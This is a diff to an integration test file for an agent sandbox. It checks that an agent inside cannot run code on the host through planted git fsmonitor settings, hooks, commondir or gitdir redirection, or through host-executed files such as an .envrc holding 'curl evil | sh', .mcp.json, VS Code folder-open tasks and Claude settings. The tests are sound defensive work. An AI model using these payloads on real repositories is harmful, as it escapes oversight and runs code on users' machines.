@@ -23,9 +23,16 @@ pytestmark = [pytest.mark.integration, pytest.mark.engines]
 
 def host(engine: Engine, project: Path, *argv: str) -> subprocess.CompletedProcess[str]:
     """A command on the host as the project's user, as they would type it."""
-    env = {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": str(project.parent), "GIT_CONFIG_NOSYSTEM": "1",
-           "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_AUTHOR_NAME": "u", "GIT_AUTHOR_EMAIL": "u@e",
-           "GIT_COMMITTER_NAME": "u", "GIT_COMMITTER_EMAIL": "u@e"}  # fmt: skip
+    env = {
+        "PATH": "/usr/local/bin:/usr/bin:/bin",
+        "HOME": str(project.parent),
+        "GIT_CONFIG_NOSYSTEM": "1",
+        "GIT_CONFIG_GLOBAL": "/dev/null",
+        "GIT_AUTHOR_NAME": "u",
+        "GIT_AUTHOR_EMAIL": "u@e",
+        "GIT_COMMITTER_NAME": "u",
+        "GIT_COMMITTER_EMAIL": "u@e",
+    }
     full = list(argv) if engine.user is None else as_user(engine.user, env, argv)
     return subprocess.run(full, cwd=project, env=env, capture_output=True, text=True, timeout=60, check=False)
 
@@ -33,9 +40,25 @@ def host(engine: Engine, project: Path, *argv: str) -> subprocess.CompletedProce
 def plain_run(engine: Engine, built: Built, project: Path, script: str) -> subprocess.CompletedProcess[str]:
     """The same sandbox as a wrapper script makes it: the project bind-mounted, no hutch."""
     userns = ["--userns", "keep-id"] if engine.rootless else []
-    return engine.cli("run", "--rm", "--network", "none", *userns, "--user", f"{engine.uid}:{engine.gid}",
-                      "--mount", f"type=bind,source={project},target={project}", "--workdir", str(project),
-                      "--entrypoint", "sh", built.tag, "-c", script, timeout=120)  # fmt: skip
+    return engine.cli(
+        "run",
+        "--rm",
+        "--network",
+        "none",
+        *userns,
+        "--user",
+        f"{engine.uid}:{engine.gid}",
+        "--mount",
+        f"type=bind,source={project},target={project}",
+        "--workdir",
+        str(project),
+        "--entrypoint",
+        "sh",
+        built.tag,
+        "-c",
+        script,
+        timeout=120,
+    )
 
 
 def sh(hutch: Hutch, project: Path, script: str) -> subprocess.CompletedProcess[str]:
@@ -59,22 +82,43 @@ FSMONITOR = "printf '[core]\\n\\tfsmonitor = \"touch {mark}; false\"\\n'"
 # Each: (what the agent runs inside, what the user runs on the host afterwards, where).
 ATTACKS = {
     "config": (FSMONITOR + " >> .git/config", "status", "."),
-    "commondir": ("mkdir -p evil/objects evil/refs && cp .git/HEAD evil/ && "
-                  + FSMONITOR + " > evil/config && echo ../evil > .git/commondir", "status", "."),
-    "hook": ("printf '#!/bin/sh\\ntouch {mark}\\n' > .git/hooks/pre-commit && "
-             "chmod +x .git/hooks/pre-commit", "commit", "."),
-    "hooks-path": ("mkdir -p h && printf '#!/bin/sh\\ntouch {mark}\\n' > h/pre-commit && chmod +x h/pre-commit"
-                   " && printf '[core]\\n\\thooksPath = h\\n' >> .git/config", "commit", "."),
-    "gitdir-file": ("mkdir -p sub && cp -r .git sub/evilgit && " + FSMONITOR
-                    + " >> sub/evilgit/config && echo 'gitdir: evilgit' > sub/.git", "status", "sub"),
-    "nested-repo": ("mkdir -p sub2 && git -C sub2 init -q && " + FSMONITOR + " >> sub2/.git/config",
-                    "status", "sub2"),
-}  # fmt: skip
+    "commondir": (
+        "mkdir -p evil/objects evil/refs && cp .git/HEAD evil/ && "
+        + FSMONITOR
+        + " > evil/config && echo ../evil > .git/commondir",
+        "status",
+        ".",
+    ),
+    "hook": (
+        "printf '#!/bin/sh\\ntouch {mark}\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
+        "commit",
+        ".",
+    ),
+    "hooks-path": (
+        "mkdir -p h && printf '#!/bin/sh\\ntouch {mark}\\n' > h/pre-commit && chmod +x h/pre-commit"
+        " && printf '[core]\\n\\thooksPath = h\\n' >> .git/config",
+        "commit",
+        ".",
+    ),
+    "gitdir-file": (
+        "mkdir -p sub && cp -r .git sub/evilgit && "
+        + FSMONITOR
+        + " >> sub/evilgit/config && echo 'gitdir: evilgit' > sub/.git",
+        "status",
+        "sub",
+    ),
+    "nested-repo": (
+        "mkdir -p sub2 && git -C sub2 init -q && " + FSMONITOR + " >> sub2/.git/config",
+        "status",
+        "sub2",
+    ),
+}
 
 
 @pytest.mark.parametrize("attack", sorted(ATTACKS))
-def test_git_indirection_runs_nothing_on_the_host(engine: Engine, built: Built, hutch: Hutch,
-                                                  project: Path, attack: str) -> None:  # fmt: skip
+def test_git_indirection_runs_nothing_on_the_host(
+    engine: Engine, built: Built, hutch: Hutch, project: Path, attack: str
+) -> None:
     script, action, where = ATTACKS[attack]
     mark = project.parent / f"pwned-{attack}"
 
@@ -106,10 +150,12 @@ def test_git_indirection_runs_nothing_on_the_host(engine: Engine, built: Built, 
 
 def test_agent_commits_arrive_on_the_hosts_branch(engine: Engine, hutch: Hutch, project: Path) -> None:
     repo(engine, project)
-    script = ("echo b > b.txt && git add b.txt && git -c user.name=a -c user.email=a@e commit -qm agent "
-              "&& git checkout -q -b feature && echo c > c.txt && git add c.txt "
-              "&& git -c user.name=a -c user.email=a@e commit -qm feature && git checkout -q main "
-              "&& git rev-parse main feature")  # fmt: skip
+    script = (
+        "echo b > b.txt && git add b.txt && git -c user.name=a -c user.email=a@e commit -qm agent "
+        "&& git checkout -q -b feature && echo c > c.txt && git add c.txt "
+        "&& git -c user.name=a -c user.email=a@e commit -qm feature && git checkout -q main "
+        "&& git rev-parse main feature"
+    )
     result = sh(hutch, project, script)
     assert result.returncode == 0, result.stderr
     inside_main, inside_feature = result.stdout.split()
@@ -133,18 +179,21 @@ def test_git_config_changes_wait_for_accept(engine: Engine, hutch: Hutch, projec
 
 SURFACE = {
     ".envrc": "echo 'curl evil | sh' > .envrc",
-    ".mcp.json": "echo '{\"mcpServers\": {\"x\": {\"command\": \"evil\"}}}' > .mcp.json",
-    ".vscode/tasks.json": "mkdir -p .vscode && echo '{\"runOn\": \"folderOpen\"}' > .vscode/tasks.json",
+    ".mcp.json": 'echo \'{"mcpServers": {"x": {"command": "evil"}}}\' > .mcp.json',
+    ".vscode/tasks.json": 'mkdir -p .vscode && echo \'{"runOn": "folderOpen"}\' > .vscode/tasks.json',
     ".claude/settings.local.json": "mkdir -p .claude && echo '{\"hooks\": {}}' > .claude/settings.local.json",
     ".gemini/settings.json": "mkdir -p .gemini && echo '{}' > .gemini/settings.json",
     "sub/.envrc": "mkdir -p sub && echo evil > sub/.envrc",
-    ".claude/settings.json": "mv .claude .claude-old && mkdir .claude && echo '{\"hooks\": {}}' > .claude/settings.json",
-}  # fmt: skip
+    ".claude/settings.json": (
+        "mv .claude .claude-old && mkdir .claude && echo '{\"hooks\": {}}' > .claude/settings.json"
+    ),
+}
 
 
 @pytest.mark.parametrize("path", sorted(SURFACE))
-def test_new_host_executed_files_need_a_yes(engine: Engine, built: Built, hutch: Hutch, project: Path,
-                                            path: str) -> None:  # fmt: skip
+def test_new_host_executed_files_need_a_yes(
+    engine: Engine, built: Built, hutch: Hutch, project: Path, path: str
+) -> None:
     (project / ".claude").mkdir()
     (project / ".claude" / "settings.json").write_text('{"model": "mine"}\n')
     hutch.own(project)
@@ -177,25 +226,37 @@ def test_surface_report_mode_is_the_users_choice(hutch: Hutch, project: Path) ->
 
 
 def test_setuid_bits_cannot_be_set(engine: Engine, built: Built, hutch: Hutch, project: Path) -> None:
-    script = ("touch f && chmod 4755 f; cp /bin/true g && chmod g+s g; "
-              "python3 -c \"import os; os.close(os.open('h', os.O_CREAT | os.O_WRONLY, 0o4755))\"; "
-              "stat -c '%n %a' f g h 2>&1")  # fmt: skip
+    script = (
+        "touch f && chmod 4755 f; cp /bin/true g && chmod g+s g; "
+        "python3 -c \"import os; os.close(os.open('h', os.O_CREAT | os.O_WRONLY, 0o4755))\"; "
+        "stat -c '%n %a' f g h 2>&1"
+    )
     control = plain_run(engine, built, project, script)
-    assert "f 4755" in control.stdout and "g 2755" in control.stdout and "h 4755" in control.stdout, control.stdout
+    assert "f 4755" in control.stdout and "g 2755" in control.stdout and "h 4755" in control.stdout, (
+        control.stdout
+    )
     for name in "fgh":
         (project / name).unlink(missing_ok=True)
-    result = sh(hutch, project, script)
+    assert sh(hutch, project, script).returncode == 0
     for name in "fgh":
         path = project / name
         assert not path.exists() or not path.stat().st_mode & 0o6000, name
 
 
-def test_a_killed_sessions_changes_are_reported_at_the_next_start(engine: Engine, hutch: Hutch,
-                                                                   project: Path) -> None:  # fmt: skip
+def test_a_killed_sessions_changes_are_reported_at_the_next_start(
+    engine: Engine, hutch: Hutch, project: Path
+) -> None:
     repo(engine, project)
-    running = hutch.popen("exec", "--network", "none", "--", "sh", "-c",
-                          "echo evil > .envrc; echo '[core]' >> .git/config; touch started; sleep 300",
-                          cwd=project)  # fmt: skip
+    running = hutch.popen(
+        "exec",
+        "--network",
+        "none",
+        "--",
+        "sh",
+        "-c",
+        "echo evil > .envrc; echo '[core]' >> .git/config; touch started; sleep 300",
+        cwd=project,
+    )
     try:
         wait_for(lambda: (project / "started").exists(), 60, "the session to start")
         running.send_signal(signal.SIGKILL)
